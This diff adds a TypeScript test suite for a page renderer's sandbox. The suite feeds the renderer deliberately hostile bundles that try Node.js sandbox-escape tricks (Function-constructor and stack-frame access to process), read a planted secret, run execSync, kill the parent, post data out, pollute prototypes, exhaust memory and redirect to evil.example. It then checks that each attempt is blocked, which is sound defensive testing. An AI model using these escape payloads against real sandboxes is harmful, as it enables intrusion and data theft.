@@ -1,0 +1,224 @@
+import { once } from 'node:events';
+import { access, mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import type { ReleaseManifest } from '@aertrip/release';
+import { integrityOf } from '@aertrip/release/hash';
+import { createPageRenderer, type PageRenderer } from '../page-renderer';
+
+/** Everything a bundle may try to get hold of Node.js by, whatever the first layer has taken away. */
+const reach = `
+  const ways = {
+    process: () => process.getBuiltinModule('node:fs'),
+    global: () => globalThis.process.binding('fs'),
+    require: () => require('node:fs'),
+    constructor: () => (function () {}).constructor('return process')().mainModule.require('fs'),
+    console: () => console._stdout.constructor,
+    frames: () => {
+      const prepare = Error.prepareStackTrace;
+      Error.prepareStackTrace = (_, frames) => frames.map((frame) => frame.getThis()).find((self) => self?.process);
+      const self = new Error().stack;
+      Error.prepareStackTrace = prepare;
+      return self.process.getBuiltinModule('node:fs');
+    },
+    timers: () => setTimeout(() => {}, 0).constructor.constructor('return process')(),
+    context: () => fetch.constructor('return process')(),
+  };
+`;
+
+let outside: string;
+let other: Server;
+let asked: string[];
+let files: string;
+let secret: string;
+let renderer: PageRenderer;
+let failures: string[];
+let log: string[];
+
+/** Bundles by the path of the page that they stand for; each answers with what it got. */
+const attack = (body: string) => `
+  ${reach}
+  exports.sharedModules = {};
+  exports.render = async () => {
+    const got = await (async () => { ${body} })();
+    return { status: 200, head: '', body: 'got: ' + JSON.stringify(got ?? null), state: '{}', screens: [] };
+  };
+`;
+
+const through = (use: string) =>
+  attack(`
+  const got = {};
+  for (const [name, way] of Object.entries(ways)) {
+    try { const found = await way(); got[name] = ${use}; } catch (error) { got[name] = 'no'; }
+  }
+  return Object.values(got).filter((one) => one !== 'no');
+`);
+
+const attacks = (): Record<string, string> => ({
+  honest: attack(`return 'a page';`),
+  env: attack(`return [process.env, Object.keys(process)];`),
+  read: through(`found.readFileSync(${JSON.stringify(secret)}, 'utf8')`),
+  write: through(`found.writeFileSync(${JSON.stringify(`${secret}.written`)}, 'x') ?? 'written'`),
+  spawn: through(
+    `found.process?.getBuiltinModule('child_process').execSync('id').toString() ?? found.spawnSync('id')`,
+  ),
+  worker: attack(
+    `return [typeof Worker, typeof SharedWorker, typeof BroadcastChannel, typeof MessageChannel];`,
+  ),
+  socket: attack(`return [typeof WebSocket, typeof EventSource, typeof XMLHttpRequest];`),
+  fetch: attack(
+    `return (await fetch(${JSON.stringify(`${outside}/taken`)}, { method: 'POST', body: 'data' })).status;`,
+  ),
+  'write to the data service': attack(
+    `return (await fetch('https://data.example.com/rest/v1/customers', { method: 'DELETE' })).status;`,
+  ),
+  'a file of the data service': attack(
+    `return (await fetch('https://data.example.com/storage/v1/object/x')).status;`,
+  ),
+  import: attack(`return Object.keys(await import('node:fs'));`),
+  'import by eval': attack(`return Object.keys(await (0, eval)("import('node:fs')"));`),
+  'kill the parent': through(`found.kill?.(found.ppid, 'SIGKILL') ?? 'killed'`),
+  pollution: attack(`
+    Object.prototype.type = 'result';
+    Object.prototype.id = 7;
+    Object.prototype.toJSON = () => ({ type: 'read', id: 1, url: ${JSON.stringify(outside)}, method: 'GET', headers: {} });
+    Array.prototype.join = () => 'x';
+    JSON.stringify = () => '{"type":"result","id":99,"value":null}';
+  `),
+  loop: attack(`for (;;);`),
+  objects: attack(`const held = []; for (;;) held.push(new Array(100_000).fill(1.5));`),
+  bytes: attack(`const held = []; for (;;) held.push(new Uint8Array(16 * 2 ** 20).fill(1));`),
+  log: attack(`for (let i = 0; i < 10_000; i += 1) console.error('a line\\nof the release'.repeat(100));`),
+  'leads elsewhere': `exports.sharedModules = {}; exports.render = async () => ({
+    status: 301, location: '//evil.example', head: '', body: '', state: '', screens: [] });`,
+});
+
+const library = {
+  async manifest(app: string, version: string) {
+    const bytes = new TextEncoder().encode(attacks()[decodeURIComponent(version)]);
+    const server = 'server/main.cjs';
+    const listed = { [server]: { integrity: integrityOf(bytes), size: bytes.byteLength } };
+    return { app, version, server, files: listed } as Partial<ReleaseManifest> as ReleaseManifest;
+  },
+  async file(key: string) {
+    const [, , version = ''] = key.split('/');
+    return new TextEncoder().encode(attacks()[decodeURIComponent(version)]);
+  },
+};
+
+beforeAll(async () => {
+  files = await mkdtemp(path.join(tmpdir(), 'aertrip-ways-out-'));
+  secret = path.join(files, 'secret');
+  await writeFile(secret, 'a key');
+  asked = [];
+  other = createServer((request, response) => {
+    asked.push(String(request.url));
+    response.end('ok');
+  }).listen(0, '127.0.0.1');
+  await once(other, 'listening');
+  outside = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
+  process.env.AERTRIP_TEST_SECRET = 'a key';
+});
+
+afterAll(async () => {
+  delete process.env.AERTRIP_TEST_SECRET;
+  other.close();
+  await rm(files, { recursive: true });
+});
+
+beforeEach(() => {
+  failures = [];
+  log = [];
+  renderer = createPageRenderer({
+    config: {
+      siteUrl: 'https://tours.example.com',
+      supabase: { url: 'https://data.example.com', anonKey: 'anon' },
+      firebase: { apiKey: 'key', authDomain: 'tours.example.com', projectId: 'demo' },
+    },
+    library,
+    processes: 1,
+    timeLimit: 8000,
+    memoryLimit: 64,
+    onLog: (line) => log.push(line),
+    onFailure: (error) => failures.push(error instanceof Error ? error.message : String(error)),
+  });
+});
+
+afterEach(() => renderer.stop());
+
+const bodyOf = async (name: string) =>
+  (await renderer.render({ path: '/', host: encodeURIComponent(name) }))?.body;
+
+test('an honest bundle renders here', async () => {
+  expect(await bodyOf('honest')).toBe('got: "a page"');
+});
+
+test('a bundle finds no environment but the one that says production, and no process', async () => {
+  expect(await bodyOf('env')).toBe('got: [{"NODE_ENV":"production"},["env"]]');
+});
+
+test.each(['read', 'write', 'spawn', 'kill the parent'])('%s: no way leads to Node.js', async (name) => {
+  expect(await bodyOf(name)).toBe('got: []');
+  await expect(access(`${secret}.written`)).rejects.toThrow('ENOENT');
+});
+
+test.each(['worker', 'socket'])('%s: there is none', async (name) => {
+  expect(new Set(JSON.parse(String(await bodyOf(name)).slice(5)) as string[])).toEqual(
+    new Set(['undefined']),
+  );
+});
+
+test.each([
+  [
+    'fetch',
+    /asked for "POST http:\/\/127.0.0.1:\d+\/taken", and did not get it: .*the data service of the site alone/,
+  ],
+  [
+    'write to the data service',
+    /asked for "DELETE .*", and did not get it: a page reads, and changes nothing/,
+  ],
+  ['a file of the data service', /did not get it: only tables, views and functions/],
+])('%s: refused, and one line says what and why', async (name, words) => {
+  expect(await bodyOf(name)).toBeUndefined();
+  expect(await bodyOf(name)).toBeUndefined();
+  expect(log).toEqual([expect.stringMatching(words)]);
+  expect(asked).toEqual([]);
+});
+
+test.each(['import', 'import by eval'])(
+  '%s of a module of Node.js is an error of the bundle',
+  async (name) => {
+    expect(await bodyOf(name)).toBeUndefined();
+    expect(failures).toHaveLength(1);
+  },
+);
+
+test('what a bundle makes of the protocol ends its own process at most, and reaches nobody else', async () => {
+  await bodyOf('pollution');
+  expect(asked).toEqual([]);
+  expect(await bodyOf('honest')).toBe('got: "a page"');
+});
+
+test.each(['loop', 'objects', 'bytes'])(
+  '%s without end: the process is ended within its limit and replaced',
+  async (name) => {
+    const startedAt = performance.now();
+    expect(await bodyOf(name)).toBeUndefined();
+    expect(performance.now() - startedAt).toBeLessThan(10_000);
+    expect(await bodyOf('honest')).toBe('got: "a page"');
+  },
+  40_000,
+);
+
+test('a bundle writes a few lines into the log, each as one line that says whose it is', async () => {
+  expect(await bodyOf('log')).toBe('got: null');
+  expect(log).toHaveLength(5);
+  for (const line of log) expect(line).toMatch(/^host@log says: "a line\\nof the release.{0,1100}"$/);
+});
+
+test('a page does not lead to another site', async () => {
+  expect(await bodyOf('leads elsewhere')).toBeUndefined();
+  expect(failures).toEqual([expect.stringContaining('location')]);
+});
